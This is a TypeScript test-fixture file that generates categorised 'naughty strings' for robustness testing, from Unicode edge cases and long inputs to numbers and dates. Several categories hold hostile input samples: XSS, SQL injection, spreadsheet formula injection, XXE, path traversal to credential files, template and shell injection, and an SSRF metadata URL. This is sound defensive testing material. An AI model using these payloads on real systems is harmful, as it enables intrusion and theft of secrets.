/** Texts that break programs which were not built for people: ours by category, made rather than collected. */

export interface NaughtyString {
  category: string;
  text: string;
}

const at = (...codes: number[]): string => String.fromCodePoint(...codes);
const range = (first: number, last: number): number[] => Array.from({ length: last - first + 1 }, (_, n) => first + n);
const each = (heads: readonly string[], tails: readonly string[]): string[] =>
  heads.flatMap((head) => tails.map((tail) => head + tail));

const scripts = [
  'ಹುಬ್ಬಳ್ಳಿ-ಧಾರವಾಡ',
  'ಕ್ಷತ್ರಿಯ ಶ್ರೀ ಜ್ಞಾನ',
  'ಸ್ತ್ರೀ ರಾಷ್ಟ್ರೀಯ ಕೃಷ್ಣ',
  'ರ‍್ಯಾಲಿ ಮತ್ತು ರ್ಯಾಲಿ',
  '೯೮೭೬೫೪೩೨೧೦',
  'ಅಂಗಡಿ ಎಲ್ಲಿದೆ?',
  'क्या कीमत है?',
  'श्रीमती ज्ञानेश्वरी क्षेत्र',
  '९८७६५४३२१०',
  'வணக்கம் ஹூப்ளி',
  'నమస్కారం శ్రీ',
  'മലയാളം ക്ഷേത്രം',
  'বাংলা স্ত্রী',
  'ગુજરાતી શ્રી',
  'ਪੰਜਾਬੀ ਸ੍ਰੀ',
  'ଓଡ଼ିଆ ଶ୍ରୀ',
  'සිංහල ශ්‍රී',
  'اردو میں قیمت؟',
  'السلام عليكم ٠١٢٣٤٥٦٧٨٩',
  'قیمت ۱۲۳۴ تومان',
  'שלום עולם',
  'ภาษาไทยไม่มีเว้นวรรค',
  'ភាសាខ្មែរ',
  'မြန်မာဘာသာ',
  'བོད་སྐད་',
  'ᠮᠣᠩᠭᠣᠯ',
  '中文沒有空格',
  '日本語カタカナ𠮷',
  '한국어 조합 각각',
  'Ελληνικά ΟΔΟΣ',
  'Кириллица ёжик',
  'ქართული',
  'Հայերեն',
  'አማርኛ',
  'Zażółć gęślą jaźń',
  'Ærøskøbing Þórður',
  'Tiếng Việt đã',
  '𝓕𝓪𝓷𝓬𝔂 𝕥𝕖𝕩𝕥 𝟙𝟚𝟛',
  'ＦＵＬＬ　ＷＩＤＴＨ',
  'ⓒⓘⓡⓒⓛⓔⓓ',
];

const bidiMarks = [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)].map((code) => at(code));
const bidi = bidiMarks.flatMap((mark) => [`${mark}gnp.elif${mark}`, `price ${mark}000,99 Rs`, `a${mark}b${mark}c`]);

const people = ['👩', '👨', '🧑'];
const emoji = [
  ...each(
    people,
    range(0x1f3fb, 0x1f3ff).map((tone) => at(tone)),
  ),
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '🏴‍☠️',
  '🇮🇳🇮🇳🇮🇳',
  '🇮',
  '1️⃣2️⃣#️⃣*️⃣',
  `🏴${[...'gbsct'].map((letter) => at(0xe0000 + letter.charCodeAt(0))).join('')}${at(0xe007f)}`,
  '❤️ and ❤︎',
  '🛵🏍️💨',
  '😀'.repeat(50),
  '👍🏽'.repeat(25),
  '‍‍👧‍‍',
];

const invisible = [
  0x00a0, 0x00ad, 0x034f, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e, 0x2000, 0x2007, 0x2009, 0x200a, 0x200b, 0x200c,
  0x200d, 0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x2061, 0x3000, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfffc, 0xe0001,
].flatMap((code) => [`a${at(code)}b`, `${at(code)}inside${at(code)}`, at(code, code)]);

const combining = [
  ...[1, 5, 20, 60].map((count) => `Z${at(...range(0x300, 0x300 + count - 1))}algo`),
  'é against e\u0301',
  'Å, A\u030a and \u212b',
  '\u1100\u1161\u11a8 against 각',
  '\u0301 on nothing',
  'क\u093c against \u0958',
  '\u0cc6\u0cc2 against \u0cca',
];

const marks = ["'", '"', '`', '´', '‘', '’', '“', '”', '«', '„', '‹', '＂', '＇', '\\'];
const quotes = [
  ...marks.flatMap((mark) => [mark, `O${mark}Brien`, `${mark}${mark}`]),
  `'"`,
  `"'"'""''`,
  `\\"`,
  `\\\\'`,
];

const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin'];
const markup = [
  '<script>window.naughty=1</script>',
  '<ScRiPt >window.naughty=1</sCrIpT >',
  '"><script src=//example.com/x.js></script>',
  "';window.naughty=1;//",
  '</textarea><script>window.naughty=1</script>',
  '</title></style></script><script>window.naughty=1</script>',
  '<!-- --><b>bold</b><!--',
  '<![CDATA[<script>window.naughty=1</script>]]>',
  '<iframe srcdoc="<script>parent.naughty=1</script>">',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=naughty=1&gt;">',
  '<svg><script>window.naughty=1</script></svg>',
  '<a href="javascript:window.naughty=1">x</a>',
  '<form action="https://example.com"><input name=q>',
  '<base href="https://example.com/">',
  '<meta http-equiv=refresh content="0;url=https://example.com">',
  '<link rel=stylesheet href="https://example.com/x.css">',
  '<style>*{display:none}</style>',
  '<template><img src=x onerror=window.naughty=1></template>',
  '<img src=x:x onerror=window.naughty=1//',
  '&lt;script&gt;window.naughty=1&lt;/script&gt;',
  '&#60;script&#62;',
  '&amp;amp;',
  '&nbsp;&copy;&bogus;',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<%00script>',
  '\\u003cscript\\u003e',
  '<x>'.repeat(30),
  ...handlers.map((handler) => `<img src=x ${handler}=window.naughty=1>`),
  ...handlers.map((handler) => `" ${handler}="window.naughty=1" x="`),
];

const sqlTails = ['--', '#', '/*', ';', ''];
const statements = [
  ...each(["' or 1=1", "') or ('1'='1", '" or ""="', "' union select null,null,null"], sqlTails),
  "'; drop table enquiries; --",
  "'; delete from staff where ''='",
  "1; attach database '/tmp/x.db' as x; --",
  "'||(select password_hash from staff)||'",
  "' and (select count(*) from sqlite_master) > 0 --",
  "'; select pg_sleep(5); --",
  "$$; copy staff to '/tmp/x'; $$",
  "%' and 1=1 and '%'='",
  '_%_%_%',
  '\\%\\_',
  "x' collate nocase --",
  '"; pragma synchronous=off; --',
  "E'\\047'",
  'admin"--',
  "' and 1=cast((select version()) as int) --",
  "' procedure analyse() --",
  '* or name match *',
  '"name" NEAR/2 "x"',
  'enquiry_search:*',
  '^ - + ( ) : "',
];

const starts = ['=', '+', '-', '@', '\t=', '\r=', '|', '%', ' =', '＝', '＋', '－', '＠'];
const formulas = each(starts, ['1+1', `cmd|'/c calc'!A0`, 'HYPERLINK("https://example.com?"&A1,"x")', 'SUM(A1:A9)*2']);

const lines = [
  'a\r\nSet-Cookie: naughty=1',
  'a\nb',
  'a\rb',
  'a\r\n\r\n<script>window.naughty=1</script>',
  '%0d%0aSet-Cookie:%20naughty=1',
  'Bcc: somebody@example.com\r\nto: x',
  'a\u2028b\u2029c',
  'a\u0085b',
  'a\vb\fc',
  '\r\n\r\n',
  '\n'.repeat(40),
  '"\r\n"',
  'one,two\r\nthree,"four',
  '嘊嘍Set-Cookie: naughty=1',
];

const controls = [...range(1, 31), 127, ...range(128, 159)].map((code) => `a${at(code)}b`);
const unstorable = [
  'a\0b',
  '\0',
  'x\0'.repeat(5),
  '\ud800',
  '\udfff',
  'a\ud83d',
  '\ude00b',
  '\udc00\ud800',
  'ok\ud800ok',
];
const noncharacters = [0xfdd0, 0xfdef, 0xfffe, 0xffff, 0xfffd, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff].map(
  (code) => `a${at(code)}b`,
);

const long = [
  ...[20, 21, 64, 65, 99, 100, 101, 150, 151, 200, 201, 254, 255, 300, 301, 2000, 2001, 5000, 5001, 20_000].map(
    (length) => 'x'.repeat(length),
  ),
  'ಅ'.repeat(100),
  'ಅ'.repeat(101),
  '😀'.repeat(50),
  '😀'.repeat(51),
  'a '.repeat(1000),
  `${'('.repeat(2000)}`,
  `${' '.repeat(3000)}x${' '.repeat(3000)}`,
  `${'a'.repeat(5000)}!`,
  `${'a@'.repeat(120)}b.co`,
];

/** Written like this, nobody takes the texts below for template strings with the wrong quotes. */
const DOLLAR = '$';

const templates = [
  '{{7*7}}',
  `${DOLLAR}{7*7}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  `[[${DOLLAR}{7*7}]]`,
  '%{7*7}',
  '*{7*7}',
  '@{7*7}',
  '{{constructor.constructor("window.naughty=1")()}}',
  `${DOLLAR}{jndi:ldap://127.0.0.1/x}`,
  '{0} {name} {dealership}',
  "$1 $& $` $'",
  '{{',
  '}}',
  `\`${DOLLAR}{process.env.PATH}\``,
];

const paths = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f',
  '..%c0%af..%c0%af',
  '/etc/passwd%00.jpg',
  'file:///etc/passwd',
  '\\\\server\\share',
  'C:\\con\\con',
  'CON',
  'NUL.txt',
  '~root/.ssh/id_rsa',
  '/dev/random',
  '.htaccess',
  '.env',
  '/proc/self/environ',
  './.git/config',
];

const numbers = [
  '0',
  '-0',
  '-1',
  '1e3',
  '1E400',
  '-1e-400',
  'NaN',
  'nan',
  'Infinity',
  '-Infinity',
  '1.5',
  '1,00,000',
  '1.000.000,00',
  '0x1F',
  '0b11',
  '0o17',
  '1_000',
  '²',
  '½',
  '٣',
  '𝟡𝟠𝟟𝟞𝟝𝟜𝟛𝟚𝟙𝟘',
  '9'.repeat(10),
  '9'.repeat(16),
  '9'.repeat(40),
  '9007199254740993',
  '-9223372036854775808',
  '9223372036854775808',
  '18446744073709551616',
  '00009876543210',
  '+91 98765 43210',
  '0091-9876543210',
  '9876543210x',
  '1;2',
  '1 2',
  '₹',
  '₹1',
  '--1',
  '1.',
  '.1',
  '1e',
];

const words = [
  'undefined',
  'null',
  'None',
  'true',
  'false',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'NULL',
  '(null)',
  '{}',
  '[]',
  '""',
  '{"name":"x"}',
  '["a"]',
  'function(){}',
  '() => 1',
];

const shell = [
  '; cat /etc/passwd',
  '| ls -la',
  '&& whoami',
  '$(whoami)',
  '`whoami`',
  '> /tmp/naughty',
  '\n/bin/sh',
  '() { :; }; echo naughty',
  '%PATH%',
  '!!',
  '*',
  '-rf /',
  '--help',
  '%s%s%s%n',
  '%x%x%x',
  '%99999999s',
];

const addresses = [
  'javascript:window.naughty=1',
  'java\tscript:window.naughty=1',
  'JaVaScRiPt:window.naughty=1',
  'data:text/html,<script>window.naughty=1</script>',
  'vbscript:x',
  '//example.com',
  'https://example.com@evil.example',
  'http://[::1]:3000/',
  'http://127.0.0.1:22',
  'http://169.254.169.254/latest/meta-data/',
  'a@b.co\r\nBcc: c@d.co',
  '"a b"@example.com',
  'a@[127.0.0.1]',
  'a@b@c.co',
  'user@пример.рф',
  'user+tag@example.co.in',
  '.a@example.com',
  'a..b@example.com',
];

const cases = ['ß', 'ẞ', 'İstanbul', 'ıI', 'ǅ', 'ﬀ ﬁ', 'ς Σ σ', 'ΐ', 'K\u212a', 'ÅÅ'];
const dates = [
  '0000-00-00',
  '2026-02-30',
  '2026-13-01',
  '9999-12-31',
  '10000-01-01',
  '-2026-01-01',
  '1970-01-01',
  '2026-1-1',
  '01/02/2026',
  '2026-01-01T00:00:00Z',
  '२०२६-०१-०१',
  'tomorrow',
];

const byCategory: Record<string, readonly string[]> = {
  scripts,
  bidi,
  emoji,
  invisible,
  combining,
  quotes,
  markup,
  sql: statements,
  formulas,
  lines,
  controls,
  unstorable,
  noncharacters,
  long,
  templates,
  paths,
  numbers,
  words,
  shell,
  addresses,
  cases,
  dates,
};

export const naughtyStrings: readonly NaughtyString[] = Object.entries(byCategory).flatMap(([category, texts]) =>
  [...new Set(texts)].map((text) => ({ category, text })),
);

/** One of each category, for where all of them would take too long. */
export const fewNaughtyStrings: readonly NaughtyString[] = Object.keys(byCategory).flatMap((category) =>
  naughtyStrings.filter((one) => one.category === category).slice(0, 1),
);
